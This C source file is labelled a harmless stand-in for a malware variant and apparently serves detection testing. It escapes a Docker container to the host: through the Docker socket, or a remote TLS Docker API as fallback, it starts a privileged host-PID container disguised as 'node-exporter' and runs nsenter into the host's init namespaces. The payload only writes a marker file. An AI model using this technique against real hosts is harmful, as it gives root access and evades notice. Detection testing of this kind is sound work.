/* detonate RB variant stand-in (harmless): creates and starts a container sharing the host's
 * pid namespace with CAP_SYS_ADMIN, first over /var/run/docker.sock, then over the TLS Docker
 * port 2376 of a documentation address (TLS via busybox ssl_client, see net.h). */
#include "../../standins/net.h"

static const char *SPEC =
    "{\"Image\":\"busybox:1.36\",\"Cmd\":[\"nsenter\",\"-t\",\"1\",\"-m\",\"-u\",\"-n\",\"-i\","
    "\"sh\",\"-c\",\"echo detonate-rb > /tmp/.rb\"],\"HostConfig\":{\"PidMode\":\"host\","
    "\"CapAdd\":[\"SYS_ADMIN\",\"SYS_PTRACE\"],\"SecurityOpt\":[\"apparmor=unconfined\"]}}";

static int request(int fd, const char *method, const char *path, const char *body, char *id) {
    char head[512];
    snprintf(head, sizeof head,
             "%s %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
             "Content-Length: %zu\r\nConnection: close\r\n\r\n",
             method, path, strlen(body));
    if (write_text(fd, head) || write_text(fd, body)) return -1;
    static char reply[16384];
    ssize_t got = read(fd, reply, sizeof reply - 1);
    close(fd);
    if (got <= 0) return -1;
    reply[got] = 0;
    char *at = strstr(reply, "\"Id\":\"");
    if (id && at) sscanf(at + 6, "%63[0-9a-f]", id);
    int status = 0;
    sscanf(reply, "HTTP/%*s %d", &status);
    return status;
}

static int open_api(int attempt) {
    if (attempt == 0) return dial_unix("/var/run/docker.sock");
    return dial_tls("203.0.113.76", 2376);
}

int main(void) {
    for (int attempt = 0; attempt < 2; attempt++) {
        char id[64] = "", path[160];
        int fd = open_api(attempt);
        if (fd < 0) continue;
        int status = request(fd, "POST", "/v1.43/containers/create?name=node-exporter", SPEC, id);
        printf("create: %d %s\n", status, id);
        if (status != 201) continue;
        snprintf(path, sizeof path, "/v1.43/containers/%s/start", id[0] ? id : "node-exporter");
        if ((fd = open_api(attempt)) >= 0) printf("start: %d\n", request(fd, "POST", path, "", NULL));
        return 0;
    }
    return 1;
}
